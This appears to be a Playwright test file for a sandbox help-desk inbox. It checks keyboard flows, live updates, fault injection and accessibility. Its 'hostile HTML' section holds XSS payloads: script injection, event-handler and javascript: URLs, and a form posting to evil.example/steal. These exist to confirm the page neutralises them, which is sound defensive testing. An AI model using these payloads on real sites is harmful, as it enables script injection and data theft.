/** The sandbox's inbox page in a real browser: playing the agent, live news, hostile HTML, accessibility. */
import axe from 'axe-core'
import type { BrowserContextOptions, Page } from 'playwright-core'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { startSandbox, type TestSandbox } from '../harness/proxy/sandbox-server.ts'
import { aContext } from '../harness/browser/visitor.ts'

let desk: TestSandbox, page: Page

beforeEach(async () => {
  desk = await startSandbox({ now: Date.now })
})
afterEach(async () => {
  await page.context().close()
  await desk.stop()
})

async function openInbox(options: BrowserContextOptions = {}, hash = ''): Promise<void> {
  const context = await aContext({ viewport: { width: 1280, height: 800 }, ...options })
  page = await context.newPage()
  await page.addInitScript({ content: axe.source })
  await page.goto(`${desk.origin}/sandbox${hash}`)
  await page.getByText(/^\d+ tickets?$/).waitFor()
}

const rows = () => page.locator('#tickets a')
const heading = (name: string) => page.getByRole('heading', { name, level: 2 })
const focused = () => page.evaluate(() => document.activeElement?.id ?? '')
const bodyOf = (at: number) => page.frameLocator('.message iframe').nth(at).locator('body')

describe('the agent', () => {
  it('finds, reads, answers, notes and closes a ticket with the keyboard alone', async () => {
    await desk.ticket({
      subject: 'Printer on fire',
      name: 'Ann Lee',
      body: '<p>It <b>burns</b>. S7K2M9QX4TAB</p>',
    })
    await desk.ticket({ subject: 'Other' })
    await openInbox()
    await page.keyboard.press('Tab') // Tokens & IDs
    await page.keyboard.press('Tab') // Faults
    await page.keyboard.press('Tab')
    expect(await focused()).toBe('search')
    await page.keyboard.type('s7k2m9qx4tab')
    await expect.poll(() => rows().count()).toBe(1)
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await heading('Printer on fire').waitFor()
    await expect.poll(focused).toBe('subject')
    expect(await bodyOf(0).innerText()).toContain('It burns.')

    await page.keyboard.press('Tab')
    expect(await focused()).toBe('status')
    while ((await focused()) !== 'text') await page.keyboard.press('Tab')
    await page.keyboard.type('Use <water> & sand.\n\nAda')
    await page.keyboard.press('Control+Enter')
    await expect.poll(() => page.locator('.message').count()).toBe(2)
    expect(await bodyOf(1).innerText()).toBe('Use <water> & sand.\n\nAda')
    expect(await page.locator('#announcer').innerText()).toBe('Reply added')
    expect(await focused()).toBe('text')

    await page.keyboard.press('Shift+Tab')
    await page.keyboard.press('ArrowRight')
    await page.keyboard.press('Tab')
    await page.keyboard.type('Called the fire brigade')
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await page.locator('.message.note').waitFor()

    for (const status of ['waiting', 'closed']) {
      await page.locator('#status').focus()
      await page.keyboard.press('ArrowDown')
      await expect
        .poll(async () => (await desk.api('GET', `/tickets?filter[status]=${status}`)).json.meta.total)
        .toBe(1)
    }
    const { messages } = (await desk.api('GET', '/tickets/1')).json.data
    expect(messages.map((message: { type: string }) => message.type)).toEqual(['inbound', 'outbound', 'note'])

    await page.locator('#text').focus()
    await page.keyboard.press('Escape')
    await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toContain('row')
  })

  it('sees a new ticket arrive without a reload, marked as new until it is opened', async () => {
    await openInbox()
    await page.getByText('No tickets yet').waitFor()
    await desk.ticket({ subject: 'Hello there', name: 'Ann Lee' })
    await page.getByText('New', { exact: true }).waitFor()
    expect(await page.title()).toBe('(1) Sandbox inbox')
    await page.getByText('New ticket from Ann Lee: Hello there').waitFor({ state: 'attached' })
    await rows().first().click()
    await heading('Hello there').waitFor()
    expect(await page.getByText('New', { exact: true }).count()).toBe(0)
    expect(await page.title()).toBe('Sandbox inbox')
  })

  it('sees what others do to the open ticket, and keeps the text in the making', async () => {
    const { ulid } = await desk.ticket()
    await openInbox({}, `#${ulid}`)
    await page.locator('#text').fill('half a sen')
    await desk.api('POST', `/tickets/${ulid}/note`, { body: '<p>I take this one</p>' })
    await page.locator('.message.note').waitFor()
    expect(await page.locator('#text').inputValue()).toBe('half a sen')
  })

  it('filters by status and pages through many', async () => {
    for (let i = 0; i < 35; i++) await desk.ticket({ subject: `Ticket ${i}` })
    const { ulid } = await desk.ticket({ subject: 'Bad' })
    await desk.api('PUT', `/tickets/${ulid}/status`, { status: 'spam' })
    await openInbox()
    expect(await rows().count()).toBe(30)
    await page.getByRole('button', { name: 'Show more' }).click()
    await expect.poll(() => rows().count()).toBe(36)
    await page.getByLabel('Spam').check({ force: true })
    await expect.poll(() => rows().count()).toBe(1)
    expect(await rows().first().innerText()).toContain('Bad')
  })

  it('sends the message once, however often Enter is hit', async () => {
    const { ulid } = await desk.ticket()
    await openInbox({}, `#${ulid}`)
    await page.locator('#text').fill('Once')
    await page.evaluate(() => {
      const form = document.querySelector<HTMLFormElement>('.composer')!
      for (let i = 0; i < 5; i++) form.requestSubmit()
    })
    await expect.poll(() => page.locator('#text').inputValue()).toBe('')
    expect((await desk.api('GET', `/tickets/${ulid}`)).json.data.messages).toHaveLength(2)
  })

  it('switches a fault on and off, and reads tokens and ULIDs', async () => {
    await openInbox()
    await page.getByRole('button', { name: /^Faults/ }).click()
    await page.getByLabel('What happens').selectOption('status')
    await page.getByLabel('Error status').fill('503')
    await page.getByRole('button', { name: 'Apply' }).click()
    await page.getByRole('button', { name: 'Faults 503' }).waitFor()
    expect((await desk.api('GET', '/me')).status).toBe(503)
    await page.getByRole('button', { name: 'Faults 503' }).click()
    await page.getByLabel('Error status').fill('9')
    await page.getByRole('button', { name: 'Apply' }).click()
    await page.getByText('The status field must be at least 200.').waitFor()
    await page.getByRole('button', { name: 'Turn all off' }).click()
    await page.getByRole('button', { name: 'Faults off' }).waitFor()
    expect((await desk.api('GET', '/me')).status).toBe(200)
    await page.getByRole('button', { name: 'Tokens & IDs' }).click()
    const dialog = page.getByRole('dialog')
    for (const text of ['sandbox-member', '01KE6P6T68YWYQN36FG4MWQKDX', `${desk.origin}/sandbox/api`]) {
      await dialog.getByText(text, { exact: true }).waitFor()
    }
  })

  it('says that this is a sandbox and that nothing leaves the machine', async () => {
    await openInbox()
    expect(await page.getByRole('banner').innerText()).toMatch(/Sandbox\s+Nothing leaves this machine/)
  })
})

const HOSTILE = `</main></body></html>
<script>top.pwned = 'script'; parent.document.title = 'pwned'</script>
<img src="x" onerror="top.pwned = 'onerror'"><svg onload="top.pwned = 'svg'"></svg>
<iframe srcdoc="<script>top.pwned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:top.pwned='frame'"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/steal" method="post"><input name="q" value="1" autofocus onfocus="top.pwned='focus'"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/pixel.gif">
<a class="js" href="javascript:top.pwned='link'" target="_self">script</a>
<a class="top" href="https://evil.example/top" target="_top">top</a>
<a class="blank" href="https://evil.example/blank" target="_blank">blank</a>
<style>html, body { position: fixed !important; inset: 0; width: 300vw !important; height: 99999px !important; background: red; z-index: 2147483647 } @import url(https://evil.example/i.css);</style>
<div style="position:fixed;inset:-500px;background:url(https://evil.example/bg.png) red"></div>`

const pwned = () => page.evaluate(() => (globalThis as { pwned?: unknown }).pwned)

describe('hostile HTML', () => {
  const calls: string[] = []

  async function openHostile(): Promise<string> {
    const name = '<img src=x onerror="window.pwned=1">'
    const { ulid } = await desk.ticket({ subject: `<script>pwned=1</script>${name}`, name, body: HOSTILE })
    await openInbox()
    calls.length = 0
    await page.context().route(/evil\.example/, (route) => {
      calls.push(route.request().url())
      return route.fulfill({ status: 200, body: 'evil' })
    })
    await rows().first().click()
    await page.locator('.message iframe').waitFor()
    await bodyOf(0).locator('a.js').waitFor()
    return ulid
  }

  it('runs no script, loads nothing from elsewhere, and shows names and subjects as text', async () => {
    await openHostile()
    expect(await pwned()).toBeUndefined()
    expect(await page.title()).toBe('Sandbox inbox')
    expect(calls).toEqual([])
    expect(await page.locator('#subject').innerText()).toContain('<script>pwned=1</script>')
    expect(await page.locator('#pane img, #tickets img, #pane script').count()).toBe(0)
  })

  it('does not follow its links and forms out of the frame', async () => {
    await openHostile()
    const popups: unknown[] = []
    page.context().on('page', (popup) => popups.push(popup))
    for (const link of ['a.js', 'a.top', 'a.blank', 'form button']) {
      await bodyOf(0).locator(link).dispatchEvent('click')
    }
    await bodyOf(0)
      .locator('form')
      .evaluate((form) => (form as HTMLFormElement).requestSubmit())
    // An answer of the server after the clicks shows that the page was not left.
    await page.getByRole('button', { name: 'Tokens & IDs' }).click()
    await page.getByRole('dialog').getByText('sandbox-member').waitFor()
    expect(page.url()).toMatch(/\/sandbox#/)
    expect([await pwned(), popups, calls]).toEqual([undefined, [], []])
  })

  it('cannot cover the page or push the answer box out of reach', async () => {
    await openHostile()
    const frame = page.locator('.message iframe')
    await expect.poll(async () => (await frame.boundingBox())?.height).toBeLessThanOrEqual(1600)
    const overlaps = await page.evaluate(() =>
      ['h1', '#search', '#open-faults', '#subject', '#status'].filter((selector) => {
        const element = document.querySelector(selector)!
        const { x, y, width, height } = element.getBoundingClientRect()
        return !element.contains(document.elementFromPoint(x + width / 2, y + height / 2))
      }),
    )
    expect(overlaps).toEqual([])
    await page.locator('#text').fill('still here')
  })

  it('does nothing either when its address is opened without the frame', async () => {
    const ulid = await openHostile()
    const [message] = (await desk.api('GET', `/tickets/${ulid}`)).json.data.messages
    await page.goto(`${desk.origin}/sandbox/messages/${message.ulid}`)
    await page.locator('a.js').dispatchEvent('click')
    expect(await pwned()).toBeUndefined()
    expect(page.url()).toContain(message.ulid)
    expect(calls).toEqual([])
  })
})

/** What axe finds, in short. */
async function violations(): Promise<string[]> {
  return page.evaluate(async () => {
    const found = await (globalThis as unknown as { axe: typeof axe }).axe.run(document, {
      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'],
    })
    return found.violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(' ')}`)
  })
}

describe.each([
  ['light', 1280],
  ['dark', 1280],
  ['light', 390],
  ['dark', 390],
] as const)('accessibility, %s, %i wide', (colorScheme, width) => {
  const options = { colorScheme, viewport: { width, height: 800 } }

  it('axe finds nothing in the empty inbox', async () => {
    await openInbox(options)
    expect(await violations()).toEqual([])
  })

  it('axe finds nothing in list, ticket and dialogs, and nothing scrolls sideways', async () => {
    const { ulid } = await desk.ticket({
      subject: 'x'.repeat(255),
      email: `${'long.'.repeat(12)}name@customer.example`,
    })
    const [tag] = (await desk.api('GET', '/tags')).json.data
    await desk.api('POST', `/tickets/${ulid}/tags/${tag.ulid}`)
    await desk.api('POST', `/tickets/${ulid}/note`, { body: 'x' })
    await desk.api('POST', `/tickets/${ulid}/reply`, { body: 'y' })
    await openInbox(options)
    await desk.ticket({ subject: 'New one' })
    await page.getByText('New', { exact: true }).waitFor()
    expect(await violations()).toEqual([])
    await page.locator(`a[href="#${ulid}"]`).click()
    await page.locator('.message').nth(2).waitFor()
    expect(await violations()).toEqual([])
    for (const button of [/^Faults/, /^Tokens/]) {
      await page.getByRole('button', { name: button }).click()
      await page.getByRole('dialog').waitFor()
      expect(await violations()).toEqual([])
      await page.keyboard.press('Escape')
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    )
  })
})
